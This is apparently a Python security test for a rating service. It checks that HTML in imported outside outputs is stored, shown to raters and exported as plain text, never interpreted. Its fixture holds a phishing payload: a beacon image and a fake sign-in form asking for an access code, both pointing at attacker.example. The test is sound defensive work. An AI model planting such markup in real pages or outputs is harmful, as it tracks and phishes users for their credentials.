"""Attack: an imported outside output carries HTML (a remote image, a fake sign-in form).

It must stay text: stored byte for byte, handed to the rater service as the same text (the rater
page shows it as plain text: issue 12), never interpreted, and a comment holding HTML is exported
as that text."""
from __future__ import annotations

import csv

from sqlalchemy import select

from db.engine import unit_of_work
from db.models import Output
from rating.analysis.export import export_study
from rating.importer import load_outputs
from rating.service import RatingService
from tests.security.study_kit import rate_everything, study_with_texts

HTML = ('<img src="http://attacker.example/beacon.png"> <form action="http://attacker.example/">'
        'Re-enter your access code: <input name="token"></form>')


def test_html_in_an_imported_output_is_stored_and_served_as_text(tmp_path):
    source = tmp_path / "outside.csv"
    with open(source, "w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh)
        w.writerow(["case_id", "system", "text"])
        w.writerows([["k0", "outside", HTML], ["k1", "outside", "Clear lungs."]])
    imported = load_outputs(source)
    assert imported["outside"]["k0"] == HTML
    factory, tokens = study_with_texts(tmp_path / "s.db", {"outside": [imported["outside"]["k0"], "Clear lungs."],
                                                          "other": ["Normal chest.", "No effusion."]})
    with unit_of_work(factory) as session:
        assert HTML in session.scalars(select(Output.text)).all()
    token = next(iter(tokens.values()))
    service = RatingService(factory)
    shown = [c.text for pos in range(2) for c in service.open_case(token, pos).candidates]
    assert any(t.rstrip(".") == HTML for t in shown), shown  # the same text (a final period at most)
    rate_everything(factory, token, comment=HTML)
    with unit_of_work(factory) as session:
        result = export_study(session, 1, tmp_path / "out")
    with open(result.files["csv"], newline="", encoding="utf-8") as fh:
        comments = {row["comment"] for row in csv.DictReader(fh)}
    assert comments == {HTML}
